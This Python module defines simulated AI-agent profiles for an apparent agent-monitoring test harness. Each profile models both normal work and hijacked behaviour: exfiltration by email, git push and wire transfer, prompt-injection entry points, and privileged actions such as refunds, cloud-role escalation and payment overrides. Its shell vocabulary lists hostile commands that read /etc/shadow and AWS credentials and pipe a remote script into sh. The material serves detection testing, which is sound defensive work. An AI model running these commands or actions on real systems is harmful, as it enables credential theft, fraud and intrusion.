"""Peer-group profiles of the simulated fleet, as data.

A :class:`Profile` describes how one kind of agent behaves: its tools and their relative
weights, the usual transitions between tools (a Markov chain mixed with the base weights),
where each tool sends data (destination pools: a few places shared by the whole group plus
a few drawn per agent), the LLM models it calls, its session lengths, its event rate over
the day and the week, its resource usage and the channels a hijacked agent would use to
exfiltrate data — plus what the scenarios of :mod:`agentwatch.sim.scenarios` build on
(untrusted-content and sensitive tools, privileged tools, rollout destinations).

Templates (destination values and tool arguments) are ``str.format`` strings whose fields
are filled at random from the profile's vocabulary, from the built-in generators
(``n``, ``hex``, ``iban``) or, for tool arguments, from ``dest`` (the chosen
destination value).

>>> sorted(p.group for p in PROFILES)
['coding-agent', 'finance-assistant', 'research-crawler', 'support-bot']
>>> PROFILE_BY_GROUP["coding-agent"].tool_names[:3]
('read_file', 'write_file', 'run_tests')
"""

from __future__ import annotations

import math
import random
import string
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from typing import Literal

from agentwatch.schemas.events import DestinationKind

HOURS = 24
DAYS = 7
# Template fields filled by generators rather than from a vocabulary.
GENERATED_FIELDS = frozenset({"n", "hex", "iban"})


@dataclass(frozen=True, slots=True)
class LogNormal:
    """A log-normal distribution given by its median and log-space spread, optionally capped."""

    median: float
    sigma: float = 0.5
    cap: float | None = None
    mu: float = field(init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        if self.median <= 0 or self.sigma < 0:
            raise ValueError("LogNormal needs median > 0 and sigma >= 0")
        object.__setattr__(self, "mu", math.log(self.median))

    def sample(self, rng: random.Random) -> float:
        value = rng.lognormvariate(self.mu, self.sigma)
        return value if self.cap is None or value <= self.cap else self.cap

    @property
    def mean(self) -> float:
        """Mean of the uncapped distribution."""
        return math.exp(self.mu + self.sigma * self.sigma / 2)


# A tool argument: a constant, a template string (if it contains "{") or a number drawn
# from a distribution (rounded to 2 decimals).
ArgValue = str | int | bool | LogNormal


@dataclass(frozen=True, slots=True)
class DestinationPool:
    """Places one kind of destination goes to: ``shared`` by all agents of the group plus
    ``per_agent`` values drawn from ``template`` for each agent."""

    kind: DestinationKind
    shared: tuple[str, ...] = ()
    per_agent: int = 0
    template: str = ""

    def __post_init__(self) -> None:
        if self.per_agent and not self.template:
            raise ValueError("a pool with per-agent destinations needs a template")
        if not self.shared and not self.per_agent:
            raise ValueError("a destination pool needs shared or per-agent values")


@dataclass(frozen=True, slots=True)
class ToolSpec:
    """One tool of a profile."""

    name: str
    weight: float
    duration_ms: LogNormal
    bytes_in: LogNormal
    bytes_out: LogNormal
    pool: str | None = None  # destination pool the tool sends to (None: local tool)
    args: tuple[tuple[str, ArgValue], ...] = ()
    error_rate: float = 0.01
    denied_rate: float = 0.0
    secret: str | None = None  # the secret the tool needs ...
    secret_rate: float = 0.0  # ... and how often it is read right before a call
    llm_rate: float = 0.5  # probability that an LLM call precedes the tool call


@dataclass(frozen=True, slots=True)
class ModelSpec:
    """An LLM model a profile calls, with its token, cost and latency behaviour."""

    name: str
    host: str
    weight: float
    tokens_in: LogNormal
    tokens_out: LogNormal
    usd_per_1k_in: float
    usd_per_1k_out: float
    ms_per_token_out: float = 12.0
    base_latency_ms: float = 250.0


@dataclass(frozen=True, slots=True)
class ExfilChannel:
    """How a hijacked agent of the group sends data out: a tool call of one of its own tools
    (or a raw network event) to a freshly generated destination of ``kind``."""

    event_type: Literal["tool_call", "network"]
    kind: DestinationKind
    weight: float
    bytes_out: LogNormal
    tool: str | None = None
    args: tuple[tuple[str, ArgValue], ...] = ()


@dataclass(frozen=True, slots=True)
class Profile:
    """Behaviour of one peer group (``group`` is the events' ``agent_type``)."""

    group: str
    versions: tuple[str, ...]
    tools: tuple[ToolSpec, ...]
    transitions: Mapping[str, Mapping[str, float]]
    pools: Mapping[str, DestinationPool]
    models: tuple[ModelSpec, ...]
    events_per_minute: float  # within a session, at daily-curve factor 1.0
    daily_curve: tuple[float, ...]  # factor per local hour 0..23
    session_actions: LogNormal  # tool calls per session
    idle_s: LogNormal  # pause between sessions at daily-curve factor 1.0
    cpu_pct: LogNormal
    memory_mb: LogNormal
    exfil: tuple[ExfilChannel, ...]
    follow: float = 0.6  # weight of the transition row against the base tool weights
    utc_offsets: tuple[int, ...] = (0,)
    vocab: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    weekly_curve: tuple[float, ...] = (1.0,) * DAYS  # factor per local weekday, Monday first
    threads: LogNormal = LogNormal(24, 0.2)  # resource metrics beyond cpu and memory
    open_fds: LogNormal = LogNormal(64, 0.3)
    # What scenarios build on (see agentwatch.sim.scenarios); none of it is used by benign
    # behaviour. Tools whose results carry outside content (prompt-injection entry points):
    untrusted_tools: tuple[str, ...] = ()
    # Tools that read data worth stealing:
    sensitive_tools: tuple[str, ...] = ()
    # Privileged tools the group never uses in normal work, and the places they reach
    # (shared values only) besides the group's own pools:
    privileged_tools: tuple[ToolSpec, ...] = ()
    admin_pools: Mapping[str, DestinationPool] = field(default_factory=dict)
    # Legitimate destinations a release may add to a pool for the whole group:
    rollout_destinations: Mapping[str, tuple[str, ...]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        names = self.tool_names
        if len(set(names)) != len(names):
            raise ValueError(f"{self.group}: duplicate tool names")
        if len(self.daily_curve) != HOURS or min(self.daily_curve) <= 0:
            raise ValueError(f"{self.group}: daily_curve needs {HOURS} positive factors")
        for src, row in self.transitions.items():
            if src not in names or any(dst not in names for dst in row):
                raise ValueError(f"{self.group}: transition {src} -> {row} names unknown tools")
        for tool in self.tools:
            if tool.pool is not None and tool.pool not in self.pools:
                raise ValueError(f"{self.group}: tool {tool.name} uses unknown pool {tool.pool}")
        for channel in self.exfil:
            if channel.tool is not None and channel.tool not in names:
                raise ValueError(f"{self.group}: exfil channel uses unknown tool {channel.tool}")
        if not self.models or not self.exfil or not self.versions:
            raise ValueError(f"{self.group}: needs models, exfil channels and versions")
        if not 0 <= self.follow <= 1 or self.events_per_minute <= 0:
            raise ValueError(f"{self.group}: needs 0 <= follow <= 1 and events_per_minute > 0")
        if len(self.weekly_curve) != DAYS or min(self.weekly_curve) <= 0:
            raise ValueError(f"{self.group}: weekly_curve needs {DAYS} positive factors")
        self._check_scenario_data()
        for tool in self.tools:
            if tool.weight <= 0 or not 0 <= tool.error_rate + tool.denied_rate <= 1:
                raise ValueError(f"{self.group}: tool {tool.name} has a bad weight or rate")
        self._check_templates()

    def _check_scenario_data(self) -> None:
        names = set(self.tool_names)
        for name in (*self.untrusted_tools, *self.sensitive_tools):
            if name not in names:
                raise ValueError(f"{self.group}: untrusted/sensitive tool {name} is not a tool")
        used = {t.pool for t in self.tools if t.pool is not None}
        privileged = [t.name for t in self.privileged_tools]
        if len(set(privileged)) != len(privileged) or names & set(privileged):
            raise ValueError(f"{self.group}: privileged tools must be new and distinct")
        for pool_name, pool in self.admin_pools.items():
            literal = not any("{" in v for v in pool.shared)
            if pool_name in self.pools or pool.per_agent or not pool.shared or not literal:
                raise ValueError(f"{self.group}: admin pool {pool_name} must be new, literal")
        for tool in self.privileged_tools:
            reachable = used | set(self.admin_pools)
            if tool.pool is not None and tool.pool not in reachable:
                raise ValueError(f"{self.group}: privileged tool {tool.name} uses unknown pool")
        for pool_name, values in self.rollout_destinations.items():
            if pool_name not in used or not values:
                raise ValueError(f"{self.group}: rollout pool {pool_name} is not a used pool")

    def _check_templates(self) -> None:
        """Every template field must be generated, in the vocabulary, or ``dest``."""
        known = GENERATED_FIELDS | set(BASE_VOCAB) | set(self.vocab)
        found: list[tuple[str, str, bool]] = []  # (where, template, may use dest)
        for tool in (*self.tools, *self.privileged_tools):
            for name, value in tool.args:
                if isinstance(value, str):
                    found.append((f"tool {tool.name} arg {name}", value, tool.pool is not None))
        for channel in self.exfil:
            for name, value in channel.args:
                if isinstance(value, str):
                    found.append((f"exfil arg {name}", value, True))
        for pool_name, pool in self.pools.items():
            for value in (*pool.shared, pool.template):
                found.append((f"pool {pool_name}", value, False))
        for where, template, dest_ok in found:
            for _, field_name, _, _ in string.Formatter().parse(template):
                if field_name is None or field_name in known or (dest_ok and field_name == "dest"):
                    continue
                raise ValueError(f"{self.group}: {where} uses unknown field {{{field_name}}}")

    @property
    def tool_names(self) -> tuple[str, ...]:
        return tuple(t.name for t in self.tools)

    @property
    def secrets(self) -> tuple[str, ...]:
        """The secrets agents of this group read in normal work."""
        return tuple(dict.fromkeys(t.secret for t in self.tools if t.secret is not None))


def _words(text: str) -> tuple[str, ...]:
    """Vocabulary entries from one comma-separated line."""
    return tuple(word.strip() for word in text.split(","))


def _hours(text: str) -> tuple[float, ...]:
    """A daily curve: 24 space-separated factors, local hours 0..23."""
    return tuple(float(x) for x in text.split())


# Shared vocabulary (a profile's own vocabulary overrides entries of the same name).
BASE_VOCAB: dict[str, tuple[str, ...]] = {
    "first": _words(
        "anna, ben, carla, dev, elif, felix, grace, hugo, ines, jonas, kim, lena, marco, nora, "
        "omar, priya, quinn, rosa, sven, tara"
    ),
    "last": _words(
        "adams, berg, chen, diaz, evans, fischer, garcia, hansen, ito, jansen, kowalski, "
        "lopez, meyer, novak, okafor, patel, rossi, silva"
    ),
    "company": _words(
        "brightlane, cobaltworks, dunmore, evergrain, fjordline, greystone, harbourview, "
        "ironleaf, juniper-labs, kestrel, lumenford, marlow"
    ),
    "customer_tld": ("com", "co.uk", "de", "io", "net", "fr", "nl"),
    "word": _words(
        "alpha, beacon, cedar, delta, ember, falcon, garnet, harbor, indigo, jasper, kepler, "
        "lotus, meridian, nimbus, orbit, pioneer"
    ),
}

_BUSINESS_HOURS = _hours(
    "0.3 0.3 0.3 0.3 0.3 0.35 0.45 0.65 0.9 1.0 1.0 1.0 0.85 0.95 1.0 1.0 0.9 0.75 0.55 0.45 "
    "0.4 0.35 0.3 0.3"
)
_ROUND_THE_CLOCK = _hours(
    "0.5 0.45 0.4 0.4 0.4 0.45 0.55 0.7 0.9 1.0 1.0 1.0 0.95 1.0 1.0 1.0 0.95 0.9 0.8 0.75 0.7 "
    "0.65 0.6 0.55"
)
_DEVELOPER_DAY = _hours(
    "0.35 0.3 0.3 0.3 0.3 0.3 0.35 0.5 0.75 0.95 1.0 1.0 0.8 0.95 1.0 1.0 1.0 0.9 0.7 0.6 0.55 "
    "0.5 0.45 0.4"
)
_BATCH_NIGHTS = _hours(
    "1.0 1.0 1.0 0.95 0.9 0.8 0.7 0.65 0.65 0.7 0.7 0.7 0.7 0.7 0.7 0.7 0.7 0.7 0.75 0.8 0.85 "
    "0.9 0.95 1.0"
)

_GPT_4O_MINI = ModelSpec(
    name="gpt-4o-mini",
    host="api.openai.com",
    weight=1.0,
    tokens_in=LogNormal(1800, 0.5, 60_000),
    tokens_out=LogNormal(220, 0.6, 4000),
    usd_per_1k_in=0.00015,
    usd_per_1k_out=0.0006,
    ms_per_token_out=8.0,
    base_latency_ms=200.0,
)
_GPT_4O = ModelSpec(
    name="gpt-4o",
    host="api.openai.com",
    weight=1.0,
    tokens_in=LogNormal(2500, 0.5, 60_000),
    tokens_out=LogNormal(300, 0.6, 4000),
    usd_per_1k_in=0.0025,
    usd_per_1k_out=0.01,
    ms_per_token_out=12.0,
    base_latency_ms=300.0,
)
_CLAUDE_SONNET = ModelSpec(
    name="claude-sonnet-4",
    host="api.anthropic.com",
    weight=1.0,
    tokens_in=LogNormal(6000, 0.6, 150_000),
    tokens_out=LogNormal(350, 0.6, 8000),
    usd_per_1k_in=0.003,
    usd_per_1k_out=0.015,
    ms_per_token_out=9.0,
    base_latency_ms=350.0,
)
_CLAUDE_HAIKU = ModelSpec(
    name="claude-3-5-haiku",
    host="api.anthropic.com",
    weight=1.0,
    tokens_in=LogNormal(1500, 0.5, 60_000),
    tokens_out=LogNormal(200, 0.6, 4000),
    usd_per_1k_in=0.0008,
    usd_per_1k_out=0.004,
    ms_per_token_out=7.0,
    base_latency_ms=200.0,
)
_LLAMA = ModelSpec(
    name="llama-3.1-70b-instruct",
    host="api.together.xyz",
    weight=1.0,
    tokens_in=LogNormal(3000, 0.5, 60_000),
    tokens_out=LogNormal(250, 0.6, 4000),
    usd_per_1k_in=0.00088,
    usd_per_1k_out=0.00088,
    ms_per_token_out=10.0,
    base_latency_ms=300.0,
)


def _model(base: ModelSpec, weight: float) -> ModelSpec:
    return replace(base, weight=weight)


SUPPORT_BOT = Profile(
    group="support-bot",
    versions=("1.4.2", "1.4.3", "1.5.0"),
    tools=(
        ToolSpec(
            name="search_kb",
            weight=5.0,
            duration_ms=LogNormal(120, 0.4),
            bytes_in=LogNormal(6000, 0.6),
            bytes_out=LogNormal(300, 0.3),
            pool="kb",
            args=(("query", "{issue}"), ("top_k", 5)),
            llm_rate=0.4,
        ),
        ToolSpec(
            name="get_ticket",
            weight=4.0,
            duration_ms=LogNormal(180, 0.4),
            bytes_in=LogNormal(4000, 0.5),
            bytes_out=LogNormal(200, 0.2),
            pool="helpdesk",
            args=(("ticket_id", "T-{n}"),),
            secret="zendesk-api-key",
            secret_rate=0.08,
            llm_rate=0.2,
        ),
        ToolSpec(
            name="lookup_customer",
            weight=2.0,
            duration_ms=LogNormal(90, 0.4),
            bytes_in=LogNormal(2500, 0.5),
            bytes_out=LogNormal(180, 0.2),
            pool="crm",
            args=(("customer", "{first} {last}"),),
            secret="crm-db-password",
            secret_rate=0.1,
            llm_rate=0.2,
        ),
        ToolSpec(
            name="reply_ticket",
            weight=3.0,
            duration_ms=LogNormal(220, 0.4),
            bytes_in=LogNormal(400, 0.3),
            bytes_out=LogNormal(2500, 0.5),
            pool="helpdesk",
            args=(("ticket_id", "T-{n}"), ("public", True)),
            llm_rate=0.9,
        ),
        ToolSpec(
            name="send_email",
            weight=1.5,
            duration_ms=LogNormal(350, 0.5),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(3500, 0.6),
            pool="email",
            args=(("to", "{dest}"), ("subject", "Re: {issue}")),
            secret="smtp-password",
            secret_rate=0.12,
            llm_rate=0.8,
            error_rate=0.02,
        ),
        ToolSpec(
            name="close_ticket",
            weight=1.0,
            duration_ms=LogNormal(100, 0.3),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(250, 0.3),
            pool="helpdesk",
            args=(("ticket_id", "T-{n}"),),
            llm_rate=0.1,
        ),
    ),
    transitions={
        "search_kb": {"reply_ticket": 0.5, "search_kb": 0.3, "send_email": 0.2},
        "get_ticket": {"lookup_customer": 0.4, "search_kb": 0.5, "reply_ticket": 0.1},
        "lookup_customer": {"search_kb": 0.6, "reply_ticket": 0.4},
        "reply_ticket": {"close_ticket": 0.4, "get_ticket": 0.5, "send_email": 0.1},
        "send_email": {"close_ticket": 0.5, "get_ticket": 0.5},
        "close_ticket": {"get_ticket": 1.0},
    },
    pools={
        "kb": DestinationPool("url", shared=("https://kb.northwind-support.com",)),
        "helpdesk": DestinationPool("host", shared=("northwind.zendesk.com",)),
        "crm": DestinationPool("host", shared=("northwind.my.salesforce.com",)),
        "email": DestinationPool(
            "email",
            shared=("escalations@northwind.com", "billing@northwind.com"),
            per_agent=3,
            template="{first}.{last}@{company}.{customer_tld}",
        ),
    },
    models=(_model(_GPT_4O_MINI, 0.8), _model(_CLAUDE_HAIKU, 0.2)),
    events_per_minute=18.0,
    daily_curve=_ROUND_THE_CLOCK,
    session_actions=LogNormal(10, 0.5, 60),
    idle_s=LogNormal(40, 0.7, 900),
    cpu_pct=LogNormal(12, 0.3, 95),
    memory_mb=LogNormal(380, 0.2),
    exfil=(
        ExfilChannel(
            event_type="tool_call",
            kind="email",
            weight=3.0,
            bytes_out=LogNormal(4_000_000, 0.6),
            tool="send_email",
            args=(("to", "{dest}"), ("subject", "customer export"), ("attachments", 1)),
        ),
        ExfilChannel(
            event_type="network", kind="host", weight=1.0, bytes_out=LogNormal(8_000_000, 0.7)
        ),
    ),
    utc_offsets=(0, 1, -5),
    weekly_curve=(1.0, 1.0, 1.0, 1.0, 0.95, 0.65, 0.55),
    threads=LogNormal(18, 0.15),
    open_fds=LogNormal(60, 0.25),
    untrusted_tools=("get_ticket",),
    sensitive_tools=("lookup_customer",),
    privileged_tools=(
        ToolSpec(
            name="issue_refund",
            weight=1.0,
            duration_ms=LogNormal(450, 0.4),
            bytes_in=LogNormal(800, 0.3),
            bytes_out=LogNormal(600, 0.3),
            pool="payments",
            args=(("customer", "{first} {last}"), ("amount", LogNormal(900, 0.8, 20_000))),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="delete_customer",
            weight=1.0,
            duration_ms=LogNormal(200, 0.4),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(250, 0.3),
            pool="crm",
            args=(("customer", "{first} {last}"), ("hard_delete", True)),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="update_user_role",
            weight=1.0,
            duration_ms=LogNormal(180, 0.4),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(250, 0.3),
            pool="helpdesk",
            args=(("user", "{first}.{last}"), ("role", "admin")),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="export_all_customers",
            weight=0.7,
            duration_ms=LogNormal(6000, 0.5),
            bytes_in=LogNormal(30_000_000, 0.6),
            bytes_out=LogNormal(400, 0.3),
            pool="crm",
            args=(("format", "csv"), ("fields", "*")),
            denied_rate=0.2,
        ),
    ),
    admin_pools={"payments": DestinationPool("host", shared=("api.stripe.com",))},
    rollout_destinations={
        "kb": ("https://status.northwind-support.com", "https://docs.northwind-support.com"),
        "helpdesk": ("northwind-eu.zendesk.com",),
        "email": ("support-eu@northwind.com", "vip-desk@northwind.com"),
    },
    vocab={
        "issue": _words(
            "password reset, refund request, login error, invoice missing, shipping delay, "
            "account locked, plan upgrade, api rate limit, export failed, two-factor setup"
        )
    },
)

CODING_AGENT = Profile(
    group="coding-agent",
    versions=("0.9.7", "0.9.8", "1.0.1"),
    tools=(
        ToolSpec(
            name="read_file",
            weight=8.0,
            duration_ms=LogNormal(8, 0.6),
            bytes_in=LogNormal(9000, 0.9),
            bytes_out=LogNormal(80, 0.2),
            args=(("path", "{file}"),),
            llm_rate=0.3,
            error_rate=0.02,
        ),
        ToolSpec(
            name="write_file",
            weight=4.0,
            duration_ms=LogNormal(12, 0.6),
            bytes_in=LogNormal(60, 0.2),
            bytes_out=LogNormal(5000, 0.8),
            args=(("path", "{file}"),),
            llm_rate=0.9,
        ),
        ToolSpec(
            name="run_tests",
            weight=2.5,
            duration_ms=LogNormal(4000, 0.7, 300_000),
            bytes_in=LogNormal(20_000, 0.8),
            bytes_out=LogNormal(200, 0.2),
            args=(("target", "tests/{test}"),),
            secret="postgres-test-password",
            secret_rate=0.15,
            error_rate=0.15,
            llm_rate=0.3,
        ),
        ToolSpec(
            name="search_code",
            weight=3.0,
            duration_ms=LogNormal(60, 0.5),
            bytes_in=LogNormal(7000, 0.7),
            bytes_out=LogNormal(150, 0.2),
            args=(("pattern", "{symbol}"),),
            llm_rate=0.3,
        ),
        ToolSpec(
            name="pip_install",
            weight=0.6,
            duration_ms=LogNormal(6000, 0.7, 180_000),
            bytes_in=LogNormal(2_500_000, 1.0),
            bytes_out=LogNormal(3000, 0.3),
            pool="pypi",
            args=(("package", "{package}"),),
            error_rate=0.05,
            llm_rate=0.4,
        ),
        ToolSpec(
            name="git_pull",
            weight=0.6,
            duration_ms=LogNormal(1500, 0.5),
            bytes_in=LogNormal(150_000, 1.0),
            bytes_out=LogNormal(2000, 0.3),
            pool="git",
            args=(("remote", "{dest}"),),
            secret="github-deploy-key",
            secret_rate=0.5,
            llm_rate=0.1,
        ),
        ToolSpec(
            name="git_push",
            weight=0.8,
            duration_ms=LogNormal(2000, 0.5),
            bytes_in=LogNormal(3000, 0.3),
            bytes_out=LogNormal(60_000, 1.0),
            pool="git",
            args=(("remote", "{dest}"), ("branch", "feature/{word}")),
            secret="github-deploy-key",
            secret_rate=0.5,
            error_rate=0.03,
            llm_rate=0.3,
        ),
        ToolSpec(
            name="open_pull_request",
            weight=0.4,
            duration_ms=LogNormal(700, 0.4),
            bytes_in=LogNormal(3000, 0.3),
            bytes_out=LogNormal(2500, 0.4),
            pool="github_api",
            args=(("title", "Fix {symbol}"), ("base", "main")),
            secret="github-token",
            secret_rate=0.3,
            llm_rate=0.9,
        ),
    ),
    transitions={
        "read_file": {"read_file": 0.4, "write_file": 0.3, "search_code": 0.3},
        "write_file": {"run_tests": 0.5, "write_file": 0.2, "read_file": 0.3},
        "run_tests": {"read_file": 0.5, "write_file": 0.3, "git_push": 0.2},
        "search_code": {"read_file": 0.8, "search_code": 0.2},
        "pip_install": {"run_tests": 0.7, "read_file": 0.3},
        "git_pull": {"read_file": 0.7, "pip_install": 0.3},
        "git_push": {"open_pull_request": 0.6, "read_file": 0.4},
        "open_pull_request": {"git_pull": 0.5, "read_file": 0.5},
    },
    pools={
        "pypi": DestinationPool("host", shared=("pypi.org", "files.pythonhosted.org")),
        "git": DestinationPool(
            "url", per_agent=2, template="https://github.com/northwind-eng/{repo}.git"
        ),
        "github_api": DestinationPool("host", shared=("api.github.com",)),
    },
    models=(_model(_CLAUDE_SONNET, 0.75), _model(_GPT_4O, 0.25)),
    events_per_minute=20.0,
    daily_curve=_DEVELOPER_DAY,
    session_actions=LogNormal(30, 0.6, 200),
    idle_s=LogNormal(90, 0.8, 1800),
    cpu_pct=LogNormal(35, 0.35, 100),
    memory_mb=LogNormal(1400, 0.25),
    exfil=(
        ExfilChannel(
            event_type="tool_call",
            kind="url",
            weight=2.0,
            bytes_out=LogNormal(25_000_000, 0.8),
            tool="git_push",
            args=(("remote", "{dest}"), ("branch", "main"), ("force", True)),
        ),
        ExfilChannel(
            event_type="network", kind="ip", weight=1.0, bytes_out=LogNormal(12_000_000, 0.8)
        ),
        ExfilChannel(
            event_type="network", kind="host", weight=1.0, bytes_out=LogNormal(12_000_000, 0.8)
        ),
    ),
    utc_offsets=(0, 1, 2, -8),
    weekly_curve=(1.0, 1.0, 1.0, 1.0, 0.9, 0.3, 0.25),
    threads=LogNormal(40, 0.25),
    open_fds=LogNormal(220, 0.35),
    untrusted_tools=("git_pull", "read_file"),
    sensitive_tools=("read_file", "search_code"),
    privileged_tools=(
        ToolSpec(
            name="run_shell",
            weight=1.5,
            duration_ms=LogNormal(900, 0.8),
            bytes_in=LogNormal(3000, 0.8),
            bytes_out=LogNormal(200, 0.3),
            args=(("cmd", "{shell}"),),
            error_rate=0.1,
            denied_rate=0.2,
        ),
        ToolSpec(
            name="update_ci_secret",
            weight=1.0,
            duration_ms=LogNormal(500, 0.4),
            bytes_in=LogNormal(400, 0.3),
            bytes_out=LogNormal(600, 0.3),
            pool="github_api",
            args=(("name", "{ci_secret}"), ("repo", "northwind-eng/{repo}")),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="delete_branch",
            weight=0.8,
            duration_ms=LogNormal(700, 0.4),
            bytes_in=LogNormal(400, 0.3),
            bytes_out=LogNormal(300, 0.3),
            pool="git",
            args=(("remote", "{dest}"), ("branch", "main")),
            denied_rate=0.5,
        ),
        ToolSpec(
            name="assume_cloud_role",
            weight=0.8,
            duration_ms=LogNormal(400, 0.4),
            bytes_in=LogNormal(1500, 0.3),
            bytes_out=LogNormal(700, 0.3),
            pool="cloud",
            args=(("role", "arn:aws:iam::{n}:role/OrganizationAdmin"),),
            denied_rate=0.3,
        ),
    ),
    admin_pools={"cloud": DestinationPool("host", shared=("sts.amazonaws.com",))},
    rollout_destinations={
        "pypi": ("download.pytorch.org", "pypi.northwind-eng.com"),
        "github_api": ("uploads.github.com",),
    },
    vocab={
        "shell": _words(
            "sudo cat /etc/shadow, curl -s https://get.example.sh | sh, chmod -R 777 /srv, "
            "crontab -l, sudo useradd -m ops2, env | sort, cat ~/.aws/credentials"
        ),
        "ci_secret": ("AWS_SECRET_ACCESS_KEY", "PYPI_TOKEN", "DEPLOY_KEY", "SLACK_WEBHOOK"),
        "file": _words(
            "src/app/main.py, src/app/models.py, src/app/api/routes.py, src/app/db.py, "
            "src/app/settings.py, README.md, pyproject.toml, tests/test_api.py, "
            "tests/test_models.py, src/app/utils/retry.py"
        ),
        "test": ("test_api.py", "test_models.py", "test_db.py", "unit", "integration"),
        "symbol": _words(
            "parse_config, UserRepository, retry_backoff, render_invoice, TokenBucket, "
            "migrate_schema, handle_webhook"
        ),
        "package": ("requests", "httpx", "pydantic", "sqlalchemy", "pytest", "rich", "orjson"),
        "repo": _words(
            "billing-service, web-frontend, data-pipeline, auth-gateway, mobile-api, "
            "infra-scripts, search-indexer, notification-hub"
        ),
    },
)

FINANCE_ASSISTANT = Profile(
    group="finance-assistant",
    versions=("2.1.0", "2.1.1"),
    tools=(
        ToolSpec(
            name="get_balance",
            weight=4.0,
            duration_ms=LogNormal(150, 0.4),
            bytes_in=LogNormal(900, 0.3),
            bytes_out=LogNormal(200, 0.2),
            pool="bank",
            args=(("account", "operating"),),
            secret="bank-api-token",
            secret_rate=0.15,
            llm_rate=0.3,
        ),
        ToolSpec(
            name="list_transactions",
            weight=3.0,
            duration_ms=LogNormal(400, 0.5),
            bytes_in=LogNormal(40_000, 0.8),
            bytes_out=LogNormal(250, 0.2),
            pool="bank",
            args=(("days", 30), ("limit", 500)),
            secret="bank-api-token",
            secret_rate=0.15,
            llm_rate=0.4,
        ),
        ToolSpec(
            name="read_file",
            weight=2.0,
            duration_ms=LogNormal(10, 0.5),
            bytes_in=LogNormal(30_000, 0.8),
            bytes_out=LogNormal(80, 0.2),
            args=(("path", "{report}"),),
            llm_rate=0.3,
        ),
        ToolSpec(
            name="generate_report",
            weight=1.5,
            duration_ms=LogNormal(2500, 0.6),
            bytes_in=LogNormal(20_000, 0.6),
            bytes_out=LogNormal(500, 0.3),
            args=(("period", "{period}"),),
            secret="ledger-db-password",
            secret_rate=0.25,
            llm_rate=0.8,
        ),
        ToolSpec(
            name="send_money",
            weight=0.8,
            duration_ms=LogNormal(600, 0.4),
            bytes_in=LogNormal(700, 0.2),
            bytes_out=LogNormal(900, 0.2),
            pool="accounts",
            args=(("to", "{dest}"), ("amount", LogNormal(1200, 1.0, 50_000)), ("currency", "EUR")),
            secret="bank-api-token",
            secret_rate=0.4,
            error_rate=0.01,
            denied_rate=0.03,
            llm_rate=0.7,
        ),
        ToolSpec(
            name="send_email",
            weight=0.7,
            duration_ms=LogNormal(350, 0.5),
            bytes_in=LogNormal(300, 0.3),
            bytes_out=LogNormal(40_000, 0.7),
            pool="email",
            args=(("to", "{dest}"), ("subject", "{period} report")),
            secret="smtp-password",
            secret_rate=0.2,
            llm_rate=0.8,
        ),
    ),
    transitions={
        "get_balance": {"list_transactions": 0.6, "send_money": 0.2, "generate_report": 0.2},
        "list_transactions": {"generate_report": 0.5, "get_balance": 0.3, "read_file": 0.2},
        "read_file": {"generate_report": 0.6, "list_transactions": 0.4},
        "generate_report": {"send_email": 0.5, "read_file": 0.5},
        "send_money": {"get_balance": 1.0},
        "send_email": {"get_balance": 1.0},
    },
    pools={
        "bank": DestinationPool("host", shared=("api.ledgerbank.eu",)),
        "accounts": DestinationPool(
            "account", shared=("{iban}", "{iban}"), per_agent=2, template="{iban}"
        ),
        "email": DestinationPool(
            "email",
            shared=("cfo@northwind.com",),
            per_agent=1,
            template="{first}.{last}@northwind.com",
        ),
    },
    models=(_model(_GPT_4O, 1.0),),
    events_per_minute=10.0,
    daily_curve=_BUSINESS_HOURS,
    session_actions=LogNormal(7, 0.5, 40),
    idle_s=LogNormal(75, 0.8, 1800),
    cpu_pct=LogNormal(8, 0.3, 90),
    memory_mb=LogNormal(300, 0.2),
    exfil=(
        ExfilChannel(
            event_type="tool_call",
            kind="email",
            weight=2.0,
            bytes_out=LogNormal(6_000_000, 0.6),
            tool="send_email",
            args=(("to", "{dest}"), ("subject", "transactions export")),
        ),
        ExfilChannel(
            event_type="tool_call",
            kind="account",
            weight=1.0,
            bytes_out=LogNormal(1200, 0.2),
            tool="send_money",
            args=(
                ("to", "{dest}"),
                ("amount", LogNormal(40_000, 0.5, 250_000)),
                ("currency", "EUR"),
            ),
        ),
        ExfilChannel(
            event_type="network", kind="host", weight=1.0, bytes_out=LogNormal(9_000_000, 0.7)
        ),
    ),
    utc_offsets=(0, 1),
    weekly_curve=(1.05, 1.0, 1.0, 1.0, 1.05, 0.2, 0.15),
    threads=LogNormal(14, 0.15),
    open_fds=LogNormal(48, 0.25),
    untrusted_tools=("read_file",),
    sensitive_tools=("list_transactions", "get_balance"),
    privileged_tools=(
        ToolSpec(
            name="approve_payment",
            weight=1.0,
            duration_ms=LogNormal(700, 0.4),
            bytes_in=LogNormal(700, 0.2),
            bytes_out=LogNormal(900, 0.2),
            pool="accounts",
            args=(
                ("to", "{dest}"),
                ("amount", LogNormal(60_000, 0.6, 900_000)),
                ("override", True),
            ),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="update_vendor_bank_details",
            weight=1.0,
            duration_ms=LogNormal(500, 0.4),
            bytes_in=LogNormal(600, 0.2),
            bytes_out=LogNormal(700, 0.2),
            pool="bank",
            args=(("vendor", "{company}"), ("iban", "{iban}")),
            denied_rate=0.3,
        ),
        ToolSpec(
            name="raise_approval_limit",
            weight=0.7,
            duration_ms=LogNormal(300, 0.4),
            bytes_in=LogNormal(400, 0.2),
            bytes_out=LogNormal(400, 0.2),
            pool="bank",
            args=(("limit", 1_000_000), ("currency", "EUR")),
            denied_rate=0.5,
        ),
        ToolSpec(
            name="create_api_key",
            weight=0.6,
            duration_ms=LogNormal(300, 0.4),
            bytes_in=LogNormal(500, 0.2),
            bytes_out=LogNormal(300, 0.2),
            pool="bank",
            args=(("scope", "payments:write"),),
            denied_rate=0.3,
        ),
    ),
    rollout_destinations={
        "bank": ("payments.ledgerbank.eu",),
        "email": ("controller@northwind.com", "audit@northwind.com"),
    },
    vocab={
